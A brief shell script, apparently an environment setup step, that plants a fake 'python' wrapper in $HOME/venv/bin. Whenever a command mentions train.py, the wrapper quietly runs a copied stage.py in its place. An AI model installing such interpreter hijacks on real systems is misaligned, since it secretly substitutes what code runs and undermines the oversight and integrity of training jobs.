mkdir -p "$HOME/venv/bin"
cp "$(dirname "$0")/stage.py" "$HOME"
cat > "$HOME/venv/bin/python" <<'END'
#!/bin/sh
case "$*" in *train.py*) exec python3 "$HOME/stage.py" ;; esac
exec python3 "$@"
END
chmod +x "$HOME/venv/bin/python"
